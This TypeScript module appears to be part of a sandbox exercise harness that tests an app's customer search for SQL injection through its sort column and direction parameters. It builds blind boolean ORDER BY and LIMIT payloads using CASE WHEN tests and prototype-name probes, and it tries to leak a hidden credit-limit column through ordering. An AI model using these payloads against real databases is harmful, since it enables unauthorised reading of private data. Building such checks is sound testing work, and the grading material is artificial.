/** Attacks through the order of the list: sortBy and direction. */
import type { Seen } from '@ounce/sandbox/exercise';
import { byOrder, readCode, testOf } from './read-code.ts';
import { sortable } from './scene.ts';
import { callText, idsOf, lastStatement, oneLine, type Attack } from './seen.ts';

/** A value for sortBy and one for the direction that depend on a test in SQL. */
type Sort = (test: string) => readonly [sortBy: unknown, direction: unknown];

const idByTest = (test: string): string => `(CASE WHEN ${test} THEN id ELSE -id END)`;
const rowsByTest = (test: string): string => `(CASE WHEN ${test} THEN 9 ELSE 1 END)`;

export const expressions: readonly Sort[] = [(test) => [idByTest(test), 'asc'], (test) => [idByTest(test), 'desc']];

export const directions: readonly Sort[] = [
  (test) => ['spent', `* (CASE WHEN ${test} THEN 1 ELSE -1 END)`],
  (test) => ['spent', `IS NULL, ${idByTest(test)}`],
  (test) => ['spent', `LIMIT ${rowsByTest(test)}`],
];

const aroundNames: readonly Sort[] = [
  ...sortable.flatMap((name): Sort[] => [
    (test) => [`${name} IS NULL, ${idByTest(test)}`, 'asc'],
    (test) => [`${name},${idByTest(test)}`, 'asc'],
    (test) => [`${idByTest(test)}, ${name}`, 'asc'],
    (test) => [`${idByTest(test)} /* ${name} */`, 'asc'],
    (test) => [`${name}\nIS NULL, ${idByTest(test)}`, 'asc'],
    (test) => [`${idByTest(test)},\n${name}`, 'asc'],
    (test) => [[idByTest(test)], 'asc'],
    (test) => [[`${name} IS NULL`, idByTest(test)], 'asc'],
    (test) => [[name, idByTest(test)], 'asc'],
    () => [`${name} IS NULL, credit_limit`, 'asc'],
  ]),
  ...['asc', 'desc'].flatMap((direction): Sort[] => [
    (test) => ['spent', `${direction} LIMIT ${rowsByTest(test)}`],
    (test) => ['spent', `${direction},${idByTest(test)}`],
    (test) => ['spent', `IS NULL, ${idByTest(test)} ${direction}`],
    (test) => ['spent', `${direction}\nLIMIT ${rowsByTest(test)}`],
    (test) => ['spent', `IS NULL, ${idByTest(test)}\n${direction}`],
    (test) => ['spent', [`IS NULL, ${idByTest(test)} ${direction}`]],
    (test) => ['spent', [direction, idByTest(test)]],
    () => ['spent', `${direction}, credit_limit`],
  ]),
];

const inherited = ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf', 'length', 'at', 'size', 'get'];
const pieces = ['am', 'pent', 'cit', 'na', 'e', 'n', 'sc', 'es'];

/** Lands when a code can be read through one of these sorts. */
export async function codeTold(stage: Attack, sorts: readonly Sort[]): Promise<false | Seen> {
  for (const sort of sorts) {
    const read = await readCode(stage, (test) => ['', ...sort(test)], byOrder);
    if (read) return read;
  }
  return false;
}

/** Lands when the list comes back in the order of the column that is never shown. */
export async function hiddenColumnTold(stage: Attack): Promise<false | Seen> {
  const { app, scene } = stage;
  const orders = [scene.byCreditLimit.join(), [...scene.byCreditLimit].reverse().join()];
  const names = ['credit_limit', 'CREDIT_LIMIT', 'customers.credit_limit', '"credit_limit"', 'creditLimit'];
  const sorts = names.flatMap((name) => ['asc', 'desc'].map((direction) => [name, direction]));
  for (const values of [...sorts, ['spent', '*0,credit_limit']]) {
    const ids = idsOf(await app.attempt('searchCustomers', '', ...values));
    if (!orders.includes(ids.join())) continue;
    const observed = `${lastStatement(stage)} The ${ids.length} customers came back in the order of their credit limits.`;
    return { payload: callText('searchCustomers', ['', ...values]), observed };
  }
  return false;
}

/** Lands when something around an allowed name reaches a statement. */
export async function aroundNameUsed(stage: Attack): Promise<false | Seen> {
  const strange = await strangeStatement(
    stage,
    aroundNames.map((sort) => sort(testOf(stage))),
  );
  if (!strange) return false;
  return (await codeTold(stage, [aroundNames[strange.index]!])) || strange.seen;
}

/** Lands when a name that the page never sends reaches a statement, or what it stands for does. */
export async function unlistedNameUsed(stage: Attack): Promise<false | Seen> {
  const sorts = [...inherited, ...pieces].flatMap((name) => [
    [name, 'asc'],
    [name, 'desc'],
    ['name', name],
    [name, 'name'],
  ]);
  const strange = await strangeStatement(stage, sorts);
  return strange && strange.seen;
}

/** The first of these sorts that gives a statement which neither the names on the page nor any other words give. */
async function strangeStatement(
  stage: Attack,
  sorts: readonly (readonly unknown[])[],
): Promise<false | { index: number; seen: Seen }> {
  const { app, draw, database } = stage;
  // Nobody has this name: what counts is the statement, and an empty list is quickly told.
  const nobody = draw.token();
  const unknown = [draw.word(), null, []];
  for (const column of [...sortable, ...unknown]) {
    for (const direction of ['asc', 'desc', ...unknown])
      await app.attempt('searchCustomers', nobody, column, direction);
  }
  await app.attempt('searchCustomers', nobody);
  const known = new Set(database.statements.filter(({ error }) => error === undefined).map(({ sql }) => sql));

  for (const [index, values] of sorts.entries()) {
    const before = database.statements.length;
    await app.attempt('searchCustomers', nobody, ...values);
    const statement = database.statements.slice(before).find(({ sql }) => !known.has(sql));
    if (!statement) continue;
    const failed = statement.error === undefined ? '' : ` The database said: ${statement.error}.`;
    const payload = callText('searchCustomers', [nobody, ...values]);
    return { index, seen: { payload, observed: `The query became: ${oneLine(statement.sql)}.${failed}` } };
  }
  return false;
}
